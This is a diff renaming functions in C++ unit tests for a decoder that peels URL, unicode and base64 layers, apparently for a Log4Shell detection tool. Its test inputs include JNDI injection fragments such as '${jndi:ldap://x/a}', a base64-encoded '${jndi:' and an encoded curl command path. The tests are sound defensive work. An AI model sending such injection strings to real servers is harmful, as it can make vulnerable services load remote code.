@@ -9,11 +9,11 @@ namespace l4s::hunt {
 namespace {
 
 // The most decoded form and the names of the layers peeled to get it.
-std::pair<std::string, std::string> Peel(std::string_view text) {
-  std::vector<DecodedText> v = PeelLayers(text);
+std::pair<std::string, std::string> peel(std::string_view text) {
+  std::vector<DecodedText> v = peel_layers(text);
   if (v.empty()) return {std::string(text), ""};
   std::string names;
-  for (Layer l : v.back().layers) names += (names.empty() ? "" : ",") + std::string(LayerName(l));
+  for (Layer l : v.back().layers) names += (names.empty() ? "" : ",") + std::string(layer_name(l));
   return {v.back().text, names};
 }
 
@@ -45,7 +45,7 @@ TEST(DecodersTest, TransportEncodings) {
       {"\\uD83D\\uDE00", "\xF0\x9F\x98\x80", "unicode_escape"},  // surrogate pair
   };
   for (const Case& c : cases) {
-    auto [text, layers] = Peel(c.in);
+    auto [text, layers] = peel(c.in);
     EXPECT_EQ(text, c.out) << c.in;
     EXPECT_EQ(layers, c.layers) << c.in;
   }
@@ -55,7 +55,7 @@ TEST(DecodersTest, LeavesOrdinaryTextAlone) {
   for (const char* s : {"GET /index.html HTTP/1.1", "100% sure", "a \\ b", "C:\\1\\x", "&unknown; & more",
                         "/Basic/Command/Base64/Y3VybCAtcyAxMjcuMC4wLjE=", "\\uZZZZ %zz %u12", "${jndi:ldap://x/a}",
                         "\\uD800 lone surrogate", "%00"}) {
-    std::vector<DecodedText> v = PeelLayers(s);
+    std::vector<DecodedText> v = peel_layers(s);
     if (std::string(s) == "%00") {
       ASSERT_EQ(v.size(), 1u);  // %00 decodes, to a NUL byte
       EXPECT_EQ(v[0].text, std::string(1, '\0'));
@@ -66,7 +66,7 @@ TEST(DecodersTest, LeavesOrdinaryTextAlone) {
 }
 
 TEST(DecodersTest, VariantsPerRound) {
-  std::vector<DecodedText> v = PeelLayers("%2524%257B");
+  std::vector<DecodedText> v = peel_layers("%2524%257B");
   ASSERT_EQ(v.size(), 2u);
   EXPECT_EQ(v[0].text, "%24%7B");
   EXPECT_EQ(v[1].text, "${");
@@ -84,20 +84,20 @@ TEST(DecodersTest, RoundsAreBounded) {
     }
     s = e.size() > 4096 ? s : e;
   }
-  std::vector<DecodedText> v = PeelLayers(s);
+  std::vector<DecodedText> v = peel_layers(s);
   EXPECT_LE(v.size(), static_cast<size_t>(DecodeLimits{}.max_rounds));
 }
 
 TEST(DecodersTest, Base64) {
   std::string out;
-  EXPECT_TRUE(DecodeBase64("JHtqbmRpOg==", &out));
+  EXPECT_TRUE(decode_base64("JHtqbmRpOg==", &out));
   EXPECT_EQ(out, "${jndi:");
-  EXPECT_TRUE(DecodeBase64("JHtqbmRpOg", &out));  // padding optional
+  EXPECT_TRUE(decode_base64("JHtqbmRpOg", &out));  // padding optional
   EXPECT_EQ(out, "${jndi:");
-  EXPECT_TRUE(DecodeBase64("-_8", &out));          // URL-safe alphabet
+  EXPECT_TRUE(decode_base64("-_8", &out));          // URL-safe alphabet
   EXPECT_EQ(out, "\xFB\xFF");
-  EXPECT_FALSE(DecodeBase64("abcde", &out));       // impossible length
-  EXPECT_FALSE(DecodeBase64("ab cd", &out));
+  EXPECT_FALSE(decode_base64("abcde", &out));       // impossible length
+  EXPECT_FALSE(decode_base64("ab cd", &out));
 }
 
 }  // namespace
